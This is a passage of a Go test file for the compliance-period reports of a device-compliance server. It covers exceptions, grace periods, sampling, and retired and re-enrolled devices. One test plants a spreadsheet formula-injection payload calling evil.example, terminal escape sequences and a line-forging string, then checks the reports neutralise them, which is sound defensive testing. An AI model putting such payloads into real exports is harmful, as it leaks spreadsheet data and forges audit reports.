package period_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"github.com/evident-dev/evident/internal/golden"
	"io"
	"math/rand/v2"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/evident-dev/evident/server/controls"
	"github.com/evident-dev/evident/server/period"
	"github.com/evident-dev/evident/server/states"
	"github.com/evident-dev/evident/server/store"
	"github.com/evident-dev/evident/server/store/sqlite"
)

// The period under test: March 2026 minus its last day, 30 days.
var (
	from = day(3, 1)
	to   = day(3, 31)
	now  = day(4, 10)
)

const periodSeconds = 30 * 86400

func day(month, d int) time.Time { return time.Date(2026, time.Month(month), d, 0, 0, 0, 0, time.UTC) }

func ptr[T any](v T) *T { return &v }

var policy = &controls.Policy{Name: "test-pack", Controls: []controls.Control{
	{ID: "C-ENC", Title: "Disk encryption", Criteria: []string{"CC6.1", "CC6.7"}},
	{ID: "C-FW", Title: "Host firewall", Criteria: []string{"CC6.6"}},
}}

// failFor is dev-2's failure in the middle of the period.
const failFor = 2*24*time.Hour + 3*time.Hour + 17*time.Minute + 5*time.Second

// history builds the fleet every test reads:
//
//	dev-1  compliant all period; both intervals opened before it and still
//	       open after it; a control outside the policy (ignored) fails.
//	dev-2  C-ENC fails for 2d 3h 17m 5s from 03-10 08:00 (and failed for a
//	       day in February, outside the period); C-FW fails from 03-30 to
//	       04-02: stored closed, but past the period end, so open.
//	dev-3  C-ENC goes stale (unknown) on 03-20 and stays so; C-FW is not
//	       applicable (out of scope). Reported at exactly From.
//	dev-4  enrolled 03-16 12:00, first evaluated 30 minutes later: only its
//	       enrolled time counts, the first 30 minutes are "no evidence".
//	dev-5  enrolled in February, reported before the period and at exactly
//	       To (outside it), never evaluated: never reported, no evidence.
//	dev-6  enrolled after the period: not in the report.
func history(t testing.TB) store.Store {
	t.Helper()
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	ctx := t.Context()
	enroll := func(id string, at time.Time) {
		if _, err := st.EnrollDevice(ctx, store.Device{ID: id, Hostname: "host-" + id[4:], GOOS: "linux", OSVersion: "Ubuntu 24.04", EnrolledAt: at}); err != nil {
			t.Fatal(err)
		}
	}
	seq := map[string]uint64{}
	report := func(id string, at time.Time) {
		seq[id]++
		o := store.Observation{Seq: seq[id], Collector: "os", CollectedAt: at, Status: "ok", Payload: json.RawMessage(`{}`)}
		if _, err := st.Ingest(ctx, id, []store.Observation{o}, at); err != nil {
			t.Fatal(err)
		}
	}
	apply := func(id string, at time.Time, control, status, reason string) {
		seq[id+control]++
		s := store.ControlState{ControlID: control, Status: status, Reason: reason, EvidenceSeq: seq[id+control],
			Evidence: json.RawMessage(fmt.Sprintf(`{"control": %q, "status": %q}`, control, status))}
		if err := states.Record(ctx, st, id, []store.ControlState{s}, nil, at); err != nil {
			t.Fatal(err)
		}
	}
	feb1 := day(2, 1)
	enroll("dev-1", feb1)
	apply("dev-1", feb1, "C-ENC", store.Pass, "FileVault on")
	apply("dev-1", feb1, "C-FW", store.Pass, "firewall on")
	apply("dev-1", feb1, "X-OTHER", store.Fail, "not in the policy")
	apply("dev-1", day(3, 20), "C-ENC", store.Pass, "FileVault still on")
	report("dev-1", day(3, 5))

	enroll("dev-2", feb1)
	apply("dev-2", feb1, "C-ENC", store.Pass, "LUKS on")
	apply("dev-2", day(2, 5), "C-ENC", store.Fail, "LUKS off in February")
	apply("dev-2", day(2, 6), "C-ENC", store.Pass, "LUKS on")
	apply("dev-2", day(3, 10).Add(8*time.Hour), "C-ENC", store.Fail, "root volume not encrypted")
	apply("dev-2", day(3, 10).Add(8*time.Hour+failFor), "C-ENC", store.Pass, "LUKS on")
	apply("dev-2", feb1, "C-FW", store.Pass, "nftables on")
	apply("dev-2", day(3, 30), "C-FW", store.Fail, "nftables stopped")
	apply("dev-2", day(4, 2), "C-FW", store.Pass, "nftables on")
	report("dev-2", day(3, 10))

	enroll("dev-3", feb1)
	apply("dev-3", feb1, "C-ENC", store.Pass, "BitLocker on")
	apply("dev-3", day(3, 20), "C-ENC", store.Unknown, "evidence older than 72h")
	apply("dev-3", feb1, "C-FW", store.NotApplicable, "managed by the network")
	report("dev-3", from)

	mid := day(3, 16).Add(12 * time.Hour)
	enroll("dev-4", mid)
	apply("dev-4", mid.Add(30*time.Minute), "C-ENC", store.Pass, "FileVault on")
	apply("dev-4", mid.Add(30*time.Minute), "C-FW", store.Pass, "firewall on")
	report("dev-4", mid.Add(30*time.Minute))

	enroll("dev-5", day(2, 15))
	report("dev-5", day(2, 20))
	report("dev-5", to)

	enroll("dev-6", day(4, 5))
	apply("dev-6", day(4, 5), "C-ENC", store.Pass, "on")
	return st
}

func build(t *testing.T, st store.Store, opt period.Options) *period.Report {
	t.Helper()
	r, err := period.Build(t.Context(), st, policy, opt)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return r
}

func ids(refs []period.DeviceRef) []string {
	out := []string{}
	for _, d := range refs {
		out = append(out, d.ID)
	}
	return out
}

type summary struct {
	Population, Always int
	InScope, Compliant int64
	Exceptions         []period.Exception
}

func exc(dev, control, status string, start, end time.Time, open bool, cause string, seq uint64) period.Exception {
	return period.Exception{DeviceID: dev, Hostname: "host-" + dev[4:], ControlID: control, Status: status, Start: start, End: end,
		DurationSeconds: int64(end.Sub(start) / time.Second), Open: open, Cause: cause, EvidenceSeq: seq}
}

func checkControl(t *testing.T, got period.ControlPeriod, want summary) {
	t.Helper()
	if got.Population != want.Population || got.DevicesAlwaysCompliant != want.Always ||
		got.InScopeSeconds != want.InScope || got.CompliantSeconds != want.Compliant {
		t.Errorf("%s: population %d, always compliant %d, in scope %ds, compliant %ds; want %d, %d, %ds, %ds", got.ID,
			got.Population, got.DevicesAlwaysCompliant, got.InScopeSeconds, got.CompliantSeconds,
			want.Population, want.Always, want.InScope, want.Compliant)
	}
	if wantPct := 100 * float64(want.Compliant) / float64(want.InScope); got.CompliantPercent != wantPct {
		t.Errorf("%s: CompliantPercent = %v, want %v", got.ID, got.CompliantPercent, wantPct)
	}
	if !reflect.DeepEqual(got.Exceptions, want.Exceptions) {
		t.Errorf("%s: exceptions\n got %+v\nwant %+v", got.ID, got.Exceptions, want.Exceptions)
	}
	for _, e := range got.Exceptions {
		if e.DurationSeconds != int64(e.End.Sub(e.Start)/time.Second) {
			t.Errorf("%s %s: duration %ds, but %s to %s", got.ID, e.DeviceID, e.DurationSeconds, e.Start, e.End)
		}
	}
}

// TestBuild checks the whole report of the known history to the second.
func TestBuild(t *testing.T) {
	st := history(t)
	r := build(t, st, period.Options{From: from, To: to, Now: now, Seed: 42})

	if !r.From.Equal(from) || !r.To.Equal(to) || !r.CountedTo.Equal(to) || !r.GeneratedAt.Equal(now) || r.Policy != "test-pack" || r.Seed != 42 {
		t.Errorf("header = %v %v %v %v %q %d", r.From, r.To, r.CountedTo, r.GeneratedAt, r.Policy, r.Seed)
	}
	if got, want := ids(r.Devices), []string{"dev-1", "dev-2", "dev-3", "dev-4", "dev-5"}; !slices.Equal(got, want) {
		t.Errorf("Devices = %v, want %v", got, want)
	}
	if got, want := ids(r.NeverReported), []string{"dev-5"}; !slices.Equal(got, want) {
		t.Errorf("NeverReported = %v, want %v", got, want)
	}
	if len(r.Controls) != 2 || r.Controls[0].ID != "C-ENC" || r.Controls[1].ID != "C-FW" {
		t.Fatalf("controls = %+v, want C-ENC, C-FW in policy order", r.Controls)
	}
	if c := r.Controls[0]; c.Title != "Disk encryption" || !slices.Equal(c.Criteria, []string{"CC6.1", "CC6.7"}) {
		t.Errorf("C-ENC title/criteria = %q %v", c.Title, c.Criteria)
	}

	mid := day(3, 16).Add(12 * time.Hour)
	dev4 := int64(to.Sub(mid) / time.Second) // 14.5 days enrolled
	failStart := day(3, 10).Add(8 * time.Hour)
	checkControl(t, r.Controls[0], summary{
		Population: 5, Always: 1,
		InScope:   4*periodSeconds + dev4,
		Compliant: periodSeconds + (periodSeconds - 184625) + 19*86400 + (dev4 - 1800),
		Exceptions: []period.Exception{
			exc("dev-2", "C-ENC", store.Fail, failStart, time.Date(2026, 3, 12, 11, 17, 5, 0, time.UTC), false, "root volume not encrypted", 4),
			exc("dev-3", "C-ENC", store.Unknown, day(3, 20), to, true, "evidence older than 72h", 2),
			exc("dev-4", "C-ENC", store.Unknown, mid, mid.Add(30*time.Minute), false, period.NoEvidence, 0),
			exc("dev-5", "C-ENC", store.Unknown, from, to, true, period.NoEvidence, 0),
		},
	})
	if d := r.Controls[0].Exceptions[0].DurationSeconds; d != 184625 {
		t.Errorf("dev-2 failure lasted %ds, want 184625 (2d 3h 17m 5s)", d)
	}
	checkControl(t, r.Controls[1], summary{
		Population: 4, Always: 1, // dev-3 is not applicable: out of scope
		InScope:   3*periodSeconds + dev4,
		Compliant: periodSeconds + (periodSeconds - 86400) + (dev4 - 1800),
		Exceptions: []period.Exception{
			exc("dev-2", "C-FW", store.Fail, day(3, 30), to, true, "nftables stopped", 2),
			exc("dev-4", "C-FW", store.Unknown, mid, mid.Add(30*time.Minute), false, period.NoEvidence, 0),
			exc("dev-5", "C-FW", store.Unknown, from, to, true, period.NoEvidence, 0),
		},
	})

	// Every device in scope is sampled (default size 25, capped at 5),
	// each with its intervals overlapping the period and their evidence.
	if got, want := ids(sampled(r)), []string{"dev-1", "dev-2", "dev-3", "dev-4", "dev-5"}; !slices.Equal(got, want) || r.SampleFrom != 5 {
		t.Errorf("Sample = %v of %d, want %v of 5", got, r.SampleFrom, want)
	}
	type iv struct {
		Control, Status string
		Since           time.Time
		Until           *time.Time
		Evidence        string
	}
	var dev2 []iv
	for _, s := range r.Sample[1].Intervals {
		dev2 = append(dev2, iv{s.ControlID, s.Status, s.Since, s.Until, string(s.Evidence)})
	}
	ev := func(c, s string) string { return fmt.Sprintf(`{"control": %q, "status": %q}`, c, s) }
	wantDev2 := []iv{ // the February failure is outside the period
		{"C-ENC", store.Pass, day(2, 6), &failStart, ev("C-ENC", store.Pass)},
		{"C-ENC", store.Fail, failStart, ptr(failStart.Add(failFor)), ev("C-ENC", store.Fail)},
		{"C-ENC", store.Pass, failStart.Add(failFor), nil, ev("C-ENC", store.Pass)},
		{"C-FW", store.Pass, day(2, 1), ptr(day(3, 30)), ev("C-FW", store.Pass)},
		{"C-FW", store.Fail, day(3, 30), ptr(day(4, 2)), ev("C-FW", store.Fail)},
	}
	if !reflect.DeepEqual(dev2, wantDev2) {
		t.Errorf("dev-2 sampled intervals\n got %+v\nwant %+v", dev2, wantDev2)
	}
	if n := len(r.Sample[4].Intervals); n != 0 {
		t.Errorf("dev-5 sampled with %d intervals, want none", n)
	}

	golden.Check(t, "period.txt", write(t, period.WriteText, r))
	golden.Check(t, "period.csv", write(t, period.WriteCSV, r))
	golden.Check(t, "summary.csv", write(t, period.WriteSummaryCSV, r))
	golden.Check(t, "period.json", write(t, period.WriteJSON, r))
}

func sampled(r *period.Report) []period.DeviceRef {
	var out []period.DeviceRef
	for _, s := range r.Sample {
		out = append(out, s.DeviceRef)
	}
	return out
}

// TestBuildNowInsidePeriod counts a period still running only up to Now:
// dev-4 (enrolled after Now) is out of every population, dev-3 has not
// gone stale yet, and open exceptions end at Now.
func TestBuildNowInsidePeriod(t *testing.T) {
	st := history(t)
	cut := day(3, 16)
	r := build(t, st, period.Options{From: from, To: to, Now: cut, SampleSize: 2, Seed: 1})
	if !r.CountedTo.Equal(cut) {
		t.Errorf("CountedTo = %v, want %v", r.CountedTo, cut)
	}
	half := int64(15 * 86400)
	checkControl(t, r.Controls[0], summary{
		Population: 4, Always: 2,
		InScope:   4 * half,
		Compliant: half + (half - 184625) + half,
		Exceptions: []period.Exception{
			exc("dev-2", "C-ENC", store.Fail, day(3, 10).Add(8*time.Hour), time.Date(2026, 3, 12, 11, 17, 5, 0, time.UTC), false, "root volume not encrypted", 4),
			exc("dev-5", "C-ENC", store.Unknown, from, cut, true, period.NoEvidence, 0),
		},
	})
	if got := ids(r.Devices); !slices.Contains(got, "dev-4") {
		t.Errorf("Devices = %v: dev-4 is enrolled before To", got)
	}
	if r.SampleFrom != 4 || len(r.Sample) != 2 {
		t.Errorf("sample %d of %d, want 2 of 4", len(r.Sample), r.SampleFrom)
	}
}

// TestBuildNotStarted: a period entirely after Now counts nothing.
func TestBuildNotStarted(t *testing.T) {
	st := history(t)
	r := build(t, st, period.Options{From: from, To: to, Now: day(2, 1)})
	for _, c := range r.Controls {
		if c.Population != 0 || c.InScopeSeconds != 0 || len(c.Exceptions) != 0 || c.CompliantPercent != 0 {
			t.Errorf("%s = %+v, want nothing counted", c.ID, c)
		}
	}
	if len(r.Sample) != 0 {
		t.Errorf("sample = %v, want empty", ids(sampled(r)))
	}
}

func TestBuildBadOptions(t *testing.T) {
	st := history(t)
	tests := []struct {
		name    string
		opt     period.Options
		wantBad bool
	}{
		{"inverted", period.Options{From: to, To: from, Now: now}, true},
		{"empty", period.Options{From: from, To: from, Now: now}, true},
		{"zero from", period.Options{To: to, Now: now}, true},
		{"zero to", period.Options{From: from, Now: now}, true},
		{"zero both", period.Options{}, true},
		{"negative sample", period.Options{From: from, To: to, Now: now, SampleSize: -1}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := period.Build(t.Context(), st, policy, tt.opt)
			if err == nil || r != nil {
				t.Fatalf("Build = %v, %v; want an error", r, err)
			}
			if errors.Is(err, period.ErrBadPeriod) != tt.wantBad {
				t.Errorf("Build error %v: errors.Is(ErrBadPeriod) = %v, want %v", err, !tt.wantBad, tt.wantBad)
			}
		})
	}
	if _, err := period.Build(t.Context(), st, nil, period.Options{From: from, To: to}); err == nil {
		t.Error("Build with no policy succeeded")
	}
}

func fleet(n int) []period.DeviceRef {
	out := make([]period.DeviceRef, n)
	for i := range out {
		out[i] = period.DeviceRef{ID: fmt.Sprintf("dev-%04d", i)}
	}
	return out
}

func TestSample(t *testing.T) {
	devs := fleet(200)
	a := period.Sample(devs, 7, 25)
	if len(a) != 25 {
		t.Fatalf("len = %d, want 25", len(a))
	}
	if !slices.IsSortedFunc(a, func(x, y period.DeviceRef) int { return strings.Compare(x.ID, y.ID) }) {
		t.Errorf("sample not sorted by id: %v", ids(a))
	}
	if got := slices.CompactFunc(slices.Clone(a), func(x, y period.DeviceRef) bool { return x.ID == y.ID }); len(got) != 25 {
		t.Errorf("sample has duplicates: %v", ids(a))
	}
	// Same seed, same sample, whatever order the fleet is listed in.
	shuffled := slices.Clone(devs)
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
	if b := period.Sample(shuffled, 7, 25); !slices.Equal(ids(a), ids(b)) {
		t.Errorf("same seed, different sample:\n%v\n%v", ids(a), ids(b))
	}
	if b := period.Sample(devs, 8, 25); slices.Equal(ids(a), ids(b)) {
		t.Errorf("seeds 7 and 8 give the same sample %v", ids(a))
	}
	// Pinned: a sample must stay reproducible across releases (math/rand/v2's
	// PCG is specified), or an auditor cannot re-draw it.
	if got, want := ids(period.Sample(devs, 2026, 5)), []string{"dev-0025", "dev-0069", "dev-0082", "dev-0149", "dev-0191"}; !slices.Equal(got, want) {
		t.Errorf("Sample(seed 2026, 5) = %q, want %q", got, want)
	}
	// Capping.
	if got := period.Sample(devs[:10], 7, 25); !slices.Equal(ids(got), ids(devs[:10])) {
		t.Errorf("sample of 25 from 10 = %v, want all 10", ids(got))
	}
	if got := period.Sample(devs, 7, 0); len(got) != 0 {
		t.Errorf("sample of 0 = %v", ids(got))
	}
	if got := period.Sample(nil, 7, 25); len(got) != 0 {
		t.Errorf("sample of nothing = %v", ids(got))
	}
}

// TestBuildSampleSeeds: Build's sample follows the seed and the size.
func TestBuildSampleSeeds(t *testing.T) {
	st := history(t)
	opt := period.Options{From: from, To: to, Now: now, Seed: 3, SampleSize: 2}
	a, b := build(t, st, opt), build(t, st, opt)
	if len(a.Sample) != 2 || !slices.Equal(ids(sampled(a)), ids(sampled(b))) {
		t.Errorf("same seed: %v and %v", ids(sampled(a)), ids(sampled(b)))
	}
	pool := fleet(0)
	for _, d := range a.Devices {
		pool = append(pool, d)
	}
	if got, want := ids(sampled(a)), ids(period.Sample(pool, 3, 2)); !slices.Equal(got, want) {
		t.Errorf("Build sample %v, Sample gives %v", got, want)
	}
	differs := false
	for seed := int64(4); seed < 20 && !differs; seed++ {
		opt.Seed = seed
		differs = !slices.Equal(ids(sampled(build(t, st, opt))), ids(sampled(a)))
	}
	if !differs {
		t.Error("seeds 4 to 19 all give seed 3's sample")
	}
}

func TestDuration(t *testing.T) {
	for sec, want := range map[int64]string{0: "0s", 5: "5s", 60: "1m", 184625: "2d 3h 17m 5s", 86400: "1d", 90061: "1d 1h 1m 1s"} {
		if got := period.Duration(sec); got != want {
			t.Errorf("Duration(%d) = %q, want %q", sec, got, want)
		}
	}
}

func write(t *testing.T, f func(w io.Writer, r *period.Report) error, r *period.Report) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := f(&b, r); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestBuildGrace: with a grace period, a newly failing device has that long
// to remediate before its failure is an exception. dev-2's C-ENC failure
// (2d 3h 17m 5s from 03-10 08:00) is entirely within a 72h grace, and past
// a 1-day grace for its last 1d 3h 17m 5s. Unknown time gets no grace.
func TestBuildGrace(t *testing.T) {
	st := history(t)
	failStart := time.Date(2026, 3, 10, 8, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		grace       time.Duration
		wantGrace   int64
		wantExc     *period.Exception
		wantGraceID string
	}{
		{72 * time.Hour, int64(failFor / time.Second), nil, "3d"},
		{24 * time.Hour, 24 * 3600, &period.Exception{Start: failStart.Add(24 * time.Hour), End: failStart.Add(failFor),
			DurationSeconds: int64((failFor - 24*time.Hour) / time.Second)}, "1d"},
	} {
		t.Run(tc.wantGraceID, func(t *testing.T) {
			p := *policy
			p.Controls = slices.Clone(policy.Controls)
			p.Controls[0].Grace = controls.Duration{Duration: tc.grace}
			r, err := period.Build(t.Context(), st, &p, period.Options{From: from, To: to, Now: now, Seed: 42})
			if err != nil {
				t.Fatal(err)
			}
			enc := r.Controls[0]
			if enc.Grace != tc.wantGraceID || enc.InGraceSeconds != tc.wantGrace {
				t.Errorf("grace %q, in grace %d s; want %q, %d s", enc.Grace, enc.InGraceSeconds, tc.wantGraceID, tc.wantGrace)
			}
			var got *period.Exception
			for i, e := range enc.Exceptions {
				if e.DeviceID == "dev-2" && e.Status == store.Fail {
					got = &enc.Exceptions[i]
				}
			}
			switch {
			case tc.wantExc == nil && got != nil:
				t.Errorf("a failure within the grace period is an exception: %+v", got)
			case tc.wantExc != nil && got == nil:
				t.Error("the failure past the grace period is missing")
			case tc.wantExc != nil && (!got.Start.Equal(tc.wantExc.Start) || !got.End.Equal(tc.wantExc.End) ||
				got.DurationSeconds != tc.wantExc.DurationSeconds || !strings.Contains(got.Cause, "past the 1d grace period")):
				t.Errorf("exception = %+v, want %s to %s (%d s) naming the grace", got, tc.wantExc.Start, tc.wantExc.End, tc.wantExc.DurationSeconds)
			}
			// dev-3's stale (unknown) time is an exception whatever the grace.
			stale := false
			for _, e := range enc.Exceptions {
				stale = stale || (e.DeviceID == "dev-3" && e.Status == store.Unknown && e.Cause != period.NoEvidence)
			}
			if !stale {
				t.Error("unknown time was given grace")
			}
			// The in-grace time is in scope, but not compliant.
			base := build(t, st, period.Options{From: from, To: to, Now: now, Seed: 42}).Controls[0]
			if enc.InScopeSeconds != base.InScopeSeconds || enc.CompliantSeconds != base.CompliantSeconds {
				t.Errorf("grace changed the in-scope or compliant time: %d/%d vs %d/%d", enc.CompliantSeconds, enc.InScopeSeconds, base.CompliantSeconds, base.InScopeSeconds)
			}
		})
	}
}

// TestBuildEnrollmentUnknown: the unknown recorded at enrollment (no
// evidence yet) is an exception only when it lasts: closed by the first
// report within a second it is the moment between enrollment and report,
// as a gap without any interval would be.
func TestBuildEnrollmentUnknown(t *testing.T) {
	for _, tt := range []struct {
		name        string
		firstReport time.Duration
		exceptions  int
	}{
		{"first report within a second", 300 * time.Millisecond, 0},
		{"first report five seconds later", 5 * time.Second, 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
			if err != nil {
				t.Fatal(err)
			}
			defer st.Close()
			enrolled := day(3, 10)
			if _, err := st.EnrollDevice(t.Context(), store.Device{ID: "dev-1", Hostname: "h", EnrolledAt: enrolled}); err != nil {
				t.Fatal(err)
			}
			for _, ctl := range policy.Controls {
				if err := states.Record(t.Context(), st, "dev-1", []store.ControlState{{ControlID: ctl.ID, Status: store.Unknown, Reason: "the agent has never reported"}}, nil, enrolled); err != nil {
					t.Fatal(err)
				}
				if err := states.Record(t.Context(), st, "dev-1", []store.ControlState{{ControlID: ctl.ID, Status: store.Pass, EvidenceSeq: 1}}, nil, enrolled.Add(tt.firstReport)); err != nil {
					t.Fatal(err)
				}
			}
			rep := build(t, st, period.Options{From: day(3, 1), To: day(3, 31), Now: day(4, 1)})
			for _, c := range rep.Controls {
				if len(c.Exceptions) != tt.exceptions || (tt.exceptions == 0 && c.DevicesAlwaysCompliant != 1) {
					t.Errorf("%s: %d exceptions, %d always compliant; want %d exceptions", c.ID, len(c.Exceptions), c.DevicesAlwaysCompliant, tt.exceptions)
				}
			}
		})
	}
}

// TestBuildRetired: a retired device is counted up to its retirement and no
// further (its failure does not grow after it), one retired before the
// period is not in it at all (nor among the devices that never reported),
// both are listed as retired; a revoked (stolen) device stays in the
// population.
func TestBuildRetired(t *testing.T) {
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := t.Context()
	enrolled := day(1, 10)
	for _, d := range []struct {
		id      string
		retired time.Time
		retire  bool
	}{{"dev-mid", day(3, 11), true}, {"dev-gone", day(2, 20), true}, {"dev-stolen", day(3, 11), false}} {
		if _, err := st.EnrollDevice(ctx, store.Device{ID: d.id, Hostname: d.id, EnrolledAt: enrolled}); err != nil {
			t.Fatal(err)
		}
		for _, ctl := range policy.Controls {
			if err := states.Record(ctx, st, d.id, []store.ControlState{{ControlID: ctl.ID, Status: store.Fail, Reason: "failing", EvidenceSeq: 1}}, nil, enrolled); err != nil {
				t.Fatal(err)
			}
		}
		if err := st.RevokeDevice(ctx, d.id, d.retired, "disposed of", d.retire); err != nil {
			t.Fatal(err)
		}
	}
	rep := build(t, st, period.Options{From: day(3, 1), To: day(3, 31), Now: day(4, 1)})
	if got := ids(rep.Devices); !slices.Equal(got, []string{"dev-mid", "dev-stolen"}) {
		t.Errorf("devices %v, want dev-mid and dev-stolen (dev-gone left before the period)", got)
	}
	if got := ids(rep.Retired); !slices.Equal(got, []string{"dev-gone", "dev-mid"}) {
		t.Errorf("retired %v, want dev-gone and dev-mid", got)
	}
	if slices.Contains(ids(rep.NeverReported), "dev-gone") {
		t.Error("a device retired before the period is listed as never reported")
	}
	for _, c := range rep.Controls {
		if c.Population != 2 {
			t.Errorf("%s: population %d, want 2", c.ID, c.Population)
		}
		for _, e := range c.Exceptions {
			switch e.DeviceID {
			case "dev-mid":
				if !e.End.Equal(day(3, 11)) || e.Open {
					t.Errorf("%s dev-mid exception %s to %s (open %v); want it to end at the retirement, closed", c.ID, e.Start, e.End, e.Open)
				}
			case "dev-stolen":
				if !e.End.Equal(day(3, 31)) {
					t.Errorf("%s dev-stolen exception ends %s; a revoked device stays in the population to the end", c.ID, e.End)
				}
			default:
				t.Errorf("%s: exception of %s", c.ID, e.DeviceID)
			}
		}
	}
	var text strings.Builder
	if err := period.WriteText(&text, rep); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "Retired (left the fleet") || !strings.Contains(text.String(), "dev-gone (dev-gone): retired 2026-02-20") {
		t.Errorf("text report lacks the retired devices:\n%s", text.String())
	}
}

// TestBuildReenrolled: a laptop whose certificate lapsed and that was
// enrolled again (a new identity linked to its old one by machine id) is
// one machine: counted once in the population, its old identity counted
// only up to the new enrollment, so its silence after it is no exception.
func TestBuildReenrolled(t *testing.T) {
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := t.Context()
	if _, err := st.EnrollDevice(ctx, store.Device{ID: "dev-old", Hostname: "laptop", MachineID: "m-1", EnrolledAt: day(1, 10)}); err != nil {
		t.Fatal(err)
	}
	if _, err := st.EnrollDevice(ctx, store.Device{ID: "dev-new", Hostname: "laptop", MachineID: "m-1", PreviousID: "dev-old", Reenrolled: 1, EnrolledAt: day(3, 12)}); err != nil {
		t.Fatal(err)
	}
	record := func(id, status string, at time.Time) {
		t.Helper()
		for _, ctl := range policy.Controls {
			if err := states.Record(ctx, st, id, []store.ControlState{{ControlID: ctl.ID, Status: status, Reason: status, EvidenceSeq: 1}}, nil, at); err != nil {
				t.Fatal(err)
			}
		}
	}
	record("dev-old", store.Pass, day(1, 10))
	record("dev-old", store.Unknown, day(3, 5)) // its certificate lapsed: silent, stale
	record("dev-new", store.Pass, day(3, 12))
	rep := build(t, st, period.Options{From: day(3, 1), To: day(3, 31), Now: day(4, 1)})
	for _, c := range rep.Controls {
		if c.Population != 1 || c.DevicesAlwaysCompliant != 0 {
			t.Errorf("%s: population %d, always compliant %d; want the one machine, with an exception", c.ID, c.Population, c.DevicesAlwaysCompliant)
		}
		if len(c.Exceptions) != 1 || c.Exceptions[0].DeviceID != "dev-old" || !c.Exceptions[0].Start.Equal(day(3, 5)) || !c.Exceptions[0].End.Equal(day(3, 12)) {
			t.Errorf("%s: exceptions %+v; want dev-old's week without evidence, 03-05 to 03-12", c.ID, c.Exceptions)
		}
	}
	refs := map[string]period.DeviceRef{}
	for _, d := range rep.Devices {
		refs[d.ID] = d
	}
	if refs["dev-old"].ReplacedBy != "dev-new" || refs["dev-new"].PreviousID != "dev-old" {
		t.Errorf("identities not linked: %+v", rep.Devices)
	}
	// In a later period the old identity is gone: not a device of it, not
	// one that never reported.
	later := build(t, st, period.Options{From: day(4, 1), To: day(4, 30), Now: day(5, 1)})
	if got := ids(later.Devices); !slices.Equal(got, []string{"dev-new"}) || slices.Contains(ids(later.NeverReported), "dev-old") {
		t.Errorf("a later period: devices %v, never reported %v; want only dev-new", got, ids(later.NeverReported))
	}
}

// TestHostileStringsInert: strings a device controls (its hostname, the
// reasons built from its evidence) are inert in every period output: no
// spreadsheet formula in the CSVs, no escape sequence or forged line in the
// text, escaped in JSON. (Enrollment refuses control characters in host
// fields; these rows stand for data stored before that, or a reason built
// from an excerpt.)
func TestHostileStringsInert(t *testing.T) {
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := t.Context()
	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	const forge = "\x1b[2K\rDevice forged (dev_x): COMPLIANT\n\u202eevil"
	if _, err := st.EnrollDevice(ctx, store.Device{ID: "dev-h", Hostname: formula + forge, EnrolledAt: day(1, 10)}); err != nil {
		t.Fatal(err)
	}
	for _, ctl := range policy.Controls {
		if err := states.Record(ctx, st, "dev-h", []store.ControlState{{ControlID: ctl.ID, Status: store.Fail, Reason: "@SUM(1+1)" + forge, EvidenceSeq: 1}}, nil, day(1, 10)); err != nil {
			t.Fatal(err)
		}
	}
	rep := build(t, st, period.Options{From: day(3, 1), To: day(3, 31), Now: day(4, 1)})
	var csvOut, sumOut, text, js bytes.Buffer
	for _, w := range []struct {
		f   func(io.Writer, *period.Report) error
		out *bytes.Buffer
	}{{period.WriteCSV, &csvOut}, {period.WriteSummaryCSV, &sumOut}, {period.WriteText, &text}, {period.WriteJSON, &js}} {
		if err := w.f(w.out, rep); err != nil {
			t.Fatal(err)
		}
	}
	rows, err := csv.NewReader(&csvOut).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV cell a spreadsheet would run: %q", cell)
			}
		}
	}
	if !strings.Contains(csvOut.String()+strings.Join(rows[1], ","), `'=HYPERLINK`) {
		t.Errorf("the hostname is not in the CSV, neutralised: %v", rows[1])
	}
	for _, bad := range []string{"\x1b", "\r", "\u202e", "\nDevice forged"} {
		if strings.Contains(text.String(), bad) {
			t.Errorf("the text report holds %q:\n%s", bad, text.String())
		}
	}
	if !strings.Contains(text.String(), `\x1b[2K\rDevice forged (dev_x): COMPLIANT\n\u202eevil`) {
		t.Errorf("the text report does not show the hostile string visibly escaped:\n%s", text.String())
	}
	if strings.ContainsAny(js.String(), "\x1b\r\u202e") || !json.Valid(js.Bytes()) {
		t.Error("the JSON report holds a raw control character")
	}
}

// TestEmptyPopulationHasNoPercentage: a control no device is in scope of
// shows n/a, never 0 % (a reader takes 0 % for a control every device
// fails), in the text report and the summary CSV; JSON keeps the
// population that says why.
func TestEmptyPopulationHasNoPercentage(t *testing.T) {
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "evident.db"), false)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	feb1 := day(2, 1)
	for _, id := range []string{"dev-1", "dev-2"} {
		if _, err := st.EnrollDevice(t.Context(), store.Device{ID: id, Hostname: "host-" + id, GOOS: "linux", EnrolledAt: feb1}); err != nil {
			t.Fatal(err)
		}
		for _, s := range []store.ControlState{{ControlID: "C-ENC", Status: store.Pass, Reason: "LUKS on", EvidenceSeq: 1},
